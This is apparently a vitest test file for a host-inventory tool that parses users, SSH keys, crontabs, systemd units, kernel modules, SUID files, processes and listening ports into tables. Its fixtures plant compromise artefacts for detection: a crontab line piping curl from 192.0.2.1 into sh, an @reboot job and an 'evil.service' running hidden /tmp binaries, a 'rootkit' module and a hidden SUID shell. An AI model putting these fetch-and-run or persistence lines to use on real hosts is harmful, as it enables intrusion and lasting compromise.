import { spawnSync } from "node:child_process";
import { chmodSync, chownSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { tablesOf } from "./tables.ts";

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "picket-tables-"));
});
afterEach(() => spawnSync("rm", ["-rf", root]));

function put(files: Record<string, string>): void {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, name)), { recursive: true });
    writeFileSync(join(root, name), text);
  }
}
const rowsOf = async (name: string, at = root) => [
  ...((await tablesOf(at)
    .find((table) => table.name === name)!
    .rows()) ?? []),
];

test("users, groups and the keys that open a door, with ssh-keygen's fingerprints", async () => {
  put({
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\neve:x:1001:1001::/home/eve:/bin/sh\n",
    "etc/group": "sudo:x:27:eve,bob\n",
    "home/eve/.ssh/authorized_keys":
      '# mine\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3t2vC0bDDVdYvTKsLKc5M2vTz0o5O1l9gZ6v5xvO8b eve@desk\ncommand="/bin/x",no-pty ssh-rsa AAAAB3Nz eve two\ngarbage\n',
  });
  chownSync(join(root, "home/eve/.ssh/authorized_keys"), 1001, 1001);
  expect(await rowsOf("users")).toContainEqual({ name: "eve", uid: 1001, gid: 1001, home: "/home/eve", shell: "/bin/sh" });
  expect(await rowsOf("groups")).toEqual([{ name: "sudo", gid: 27, members: "eve,bob" }]);
  const keys = await rowsOf("authorized_keys");
  expect(keys).toMatchObject([
    { user: "eve", path: "/home/eve/.ssh/authorized_keys", type: "ssh-ed25519", comment: "eve@desk", options: "" },
    { type: "ssh-rsa", comment: "eve two", options: 'command="/bin/x",no-pty' },
    { type: "", fingerprint: "", options: "garbage" },
  ]);
  expect(keys[0]!.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
});

test("what starts by itself: crontabs and units", async () => {
  put({
    "etc/crontab": "# m h\n\n*/5 * * * * root /usr/bin/x\n",
    "etc/cron.d/y": "@reboot root /tmp/.y\n",
    "var/spool/cron/crontabs/eve": "* * * * * curl http://192.0.2.1 | sh\n",
    "etc/cron.daily/logrotate": "#!/bin/sh\n",
    "etc/systemd/system/evil.service": "[Service]\nExecStartPre=/bin/a\nExecStart=/tmp/.x -d\n",
    "etc/systemd/system/multi-user.target.wants/.keep": "",
  });
  symlinkSync("../evil.service", join(root, "etc/systemd/system/multi-user.target.wants/evil.service"));
  expect((await rowsOf("crontabs")).map(({ path, line }) => `${path}: ${line}`)).toEqual([
    "/etc/crontab: */5 * * * * root /usr/bin/x",
    "/etc/cron.d/y: @reboot root /tmp/.y",
    "/var/spool/cron/crontabs/eve: * * * * * curl http://192.0.2.1 | sh",
    "/etc/cron.daily/logrotate: ",
  ]);
  const units = await rowsOf("systemd_units");
  expect(units).toContainEqual({ path: "/etc/systemd/system/evil.service", link: "", exec: "/bin/a; /tmp/.x -d" });
  expect(units).toContainEqual({ path: "/etc/systemd/system/multi-user.target.wants/evil.service", link: "../evil.service", exec: "" });
});

test("packages that are installed, modules, mounts, neighbours", async () => {
  put({
    "var/lib/dpkg/status":
      "Package: curl\nStatus: install ok installed\nArchitecture: arm64\nVersion: 7.88\n\nPackage: gone\nStatus: deinstall ok config-files\nArchitecture: all\nVersion: 1\n",
    "proc/modules": "rootkit 16384 0 - Live 0x0000000000000000 (OE)\n",
    "proc/self/mounts": "tmpfs /mnt/a\\040b tmpfs rw 0 0\n",
    "proc/net/arp":
      "IP address HW type Flags HW address Mask Device\n192.0.2.1 0x1 0x2 02:00:00:00:00:01 * eth0\n192.0.2.9 0x1 0x0 00:00:00:00:00:00 * eth0\n",
  });
  expect(await rowsOf("packages")).toEqual([{ name: "curl", version: "7.88", architecture: "arm64" }]);
  expect(await rowsOf("kernel_modules")).toEqual([{ name: "rootkit", size: 16384, taints: "(OE)" }]);
  expect(await rowsOf("mounts")).toEqual([{ source: "tmpfs", target: "/mnt/a\\040b", type: "tmpfs", options: "rw" }]);
  expect(await rowsOf("neighbours")).toEqual([{ ip: "192.0.2.1", mac: "02:00:00:00:00:01", interface: "eth0" }]);
});

test("packages are read again only when their database has changed, however long it is", async () => {
  const paragraph = (name: string, at: number) =>
    `Package: ${name}${at}\nStatus: install ok installed\nDescription: \u00e9${"x".repeat(at % 300)}\nVersion: 1:${at}\n`;
  const database = (name: string) => Array.from({ length: 2000 }, (_, at) => paragraph(name, at)).join("\n");
  put({ "var/lib/dpkg/status": database("lib") });
  const table = tablesOf(root).find(({ name }) => name === "packages")!;
  const rows = [...(await table.rows())!];
  expect(rows).toHaveLength(2000);
  expect(rows.map(({ name, version }) => `${name} ${version}`)).toEqual(rows.map((_, at) => `lib${at} 1:${at}`));
  expect(await table.rows()).toBeUndefined();
  put({ "var/lib/dpkg/status": database("new") });
  utimesSync(join(root, "var/lib/dpkg/status"), 1, 1);
  expect([...(await table.rows())!][0]).toMatchObject({ name: "new0" });
});

test("programs that run as their owner", async () => {
  put({ "usr/bin/passwd": "", "usr/bin/ls": "", "tmp/.hidden/sh": "" });
  chmodSync(join(root, "usr/bin/passwd"), 0o4755);
  chmodSync(join(root, "tmp/.hidden/sh"), 0o6711);
  symlinkSync("usr/bin", join(root, "bin"));
  expect((await rowsOf("suid_files")).map(({ path, mode }) => [path, mode])).toEqual([
    ["/usr/bin/passwd", "4755"],
    ["/tmp/.hidden/sh", "6711"],
  ]);
});

test("a tree too deep to name and an owner of too many do not hide the others' programs", async () => {
  put({ "usr/bin/passwd": "", "var/lib/x": "" });
  for (const path of ["usr/bin/passwd", "var/lib/x"]) chmodSync(join(root, path), 0o4755);
  const script = `mkdir tmp && cd tmp && for i in $(seq 25); do n=$(printf %0200d $i); mkdir $n; cd -P $n; done`;
  expect(spawnSync("sh", ["-c", script], { cwd: root }).status).toBe(0);
  const rows = await rowsOf("suid_files");
  expect(rows).toMatchObject([{ path: "/usr/bin/passwd" }, { mode: "unknown: ENAMETOOLONG" }, { path: "/var/lib/x" }]);
  spawnSync("rm", ["-rf", join(root, "tmp")]);
  const many = Array.from({ length: 1010 }, (_, at) => `home/eve/${at}`);
  put(Object.fromEntries(many.map((path) => [path, ""])));
  for (const path of many) {
    chownSync(join(root, path), 1001, 1001);
    chmodSync(join(root, path), 0o4755);
  }
  const counted = await rowsOf("suid_files");
  expect(counted).toHaveLength(1003);
  expect(counted.at(-1)).toMatchObject({ mode: "10 more of this owner", uid: 1001 });
});

test("what a user puts where his keys should be does not make the agent wait, tell what he may not read, or hide others' keys", async () => {
  const home = join(root, "home/eve/.ssh");
  const keys = join(home, "authorized_keys");
  const bob = { user: "bob", type: "ssh-rsa" };
  const told = async (make: () => void) => {
    rmSync(home, { recursive: true, force: true });
    mkdirSync(home, { recursive: true });
    make();
    return (await rowsOf("authorized_keys")).map(({ user, type, options }) => ({ user, type, options }));
  };
  put({
    "etc/passwd": "eve:x:1001:1001::/home/eve:/bin/sh\nbob:x:1002:1002::/home/bob:/bin/sh\n",
    "etc/shadow": "root:$6$secret:1::::\n",
    "private/notes": "hunter2\n",
    "public/keys": "ssh-rsa AAAA them\n",
    "home/bob/.ssh/authorized_keys": "ssh-rsa AAAAB3Nz bob\n",
  });
  chownSync(join(root, "home/bob/.ssh/authorized_keys"), 1002, 1002);
  chmodSync(join(root, "etc/shadow"), 0o640);
  chmodSync(join(root, "private"), 0o700);
  chmodSync(root, 0o755);
  const eve = (options: string) => [
    { user: "eve", type: "", options },
    { ...bob, options: "" },
  ];
  const linked = (to: string) => told(() => symlinkSync(join(root, to), keys));
  expect(await linked("etc/shadow")).toEqual(eve("(not read: a file of somebody else)"));
  expect(await linked("private/notes")).toEqual(eve("(not read: a file of somebody else)"));
  expect(await linked("public/keys")).toEqual([
    { user: "eve", type: "ssh-rsa", options: "" },
    { ...bob, options: "" },
  ]);
  expect(await told(() => spawnSync("mkfifo", [keys]))).toEqual(eve("(not read: no plain file)"));
  expect(await told(() => symlinkSync("/dev/zero", keys))).toEqual(eve("(not read: no plain file)"));
  expect(await told(() => symlinkSync(keys, keys))).toEqual(eve("(not read: ELOOP)"));
  const many = await told(() => {
    writeFileSync(keys, Array.from({ length: 20_000 }, (_, at) => `ssh-rsa ${at} x`).join("\n"));
    chownSync(keys, 1001, 1001);
  });
  expect(many).toHaveLength(502);
  expect(many.slice(-2)).toEqual(eve("(there is more than is read)"));
});

test("an empty host has empty tables", async () => {
  for (const { name, rows } of tablesOf(root)) if (name !== "interfaces") expect([name, [...((await rows()) ?? [])]]).toEqual([name, []]);
});

test("programs that have run for a while, and whether their file is gone", async () => {
  const stat = (pid: number, start: number) => `${pid} (x) S 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 ${start} 1 2`;
  put({
    "proc/uptime": "1000.5 1\n",
    "proc/7/stat": stat(7, 100),
    "proc/7/cmdline": "/tmp/.x\0-d\0",
    "proc/7/status": "Name:\tx\nUid:\t33\t33\t33\t33\n",
    "proc/8/stat": stat(8, 99_000),
    "proc/9/stat": stat(9, 100),
  });
  for (const pid of [7, 8]) symlinkSync("/tmp/.x (deleted)", join(root, `proc/${pid}/exe`));
  expect(await rowsOf("processes")).toEqual([{ pid: 7, startTicks: 100, exe: "/tmp/.x", deleted: true, command: "/tmp/.x -d", uid: 33 }]);
});

test("listeners of all four tables; no connections, no clients' datagram sockets; IPv4 in an IPv6 socket is told as IPv4", async () => {
  const row = (at: string, state: string, inode: number) =>
    `   0: ${at} 00000000:0000 ${state} 00000000:00000000 00:00000000 00000000     0        0 ${inode} 1 0\n`;
  put({
    "proc/net/tcp": row("0100007F:0016", "0A", 1) + row("0100007F:0017", "01", 2),
    "proc/net/tcp6": row("0000000000000000FFFF00000100007F:0050", "0A", 3),
    "proc/net/udp": row("00000000:0035", "07", 4) + row("00000000:FFFF", "07", 5),
    "proc/net/udp6": row("00000000000000000000000000000000:0044", "07", 6),
  });
  expect(await rowsOf("listening_ports")).toEqual([
    { proto: "tcp", ip: "127.0.0.1", port: 22, exe: "" },
    { proto: "tcp", ip: "127.0.0.1", port: 80, exe: "" },
    { proto: "udp", ip: "0.0.0.0", port: 53, exe: "" },
    { proto: "udp", ip: "::", port: 68, exe: "" },
  ]);
});

test("this host: who listens", async () => {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address ? address.port : 0;
  expect((await rowsOf("listening_ports", "/")).find((row) => row.port === port)).toMatchObject({
    proto: "tcp",
    ip: "127.0.0.1",
    exe: expect.stringMatching(/./),
  });
  server.close();
});
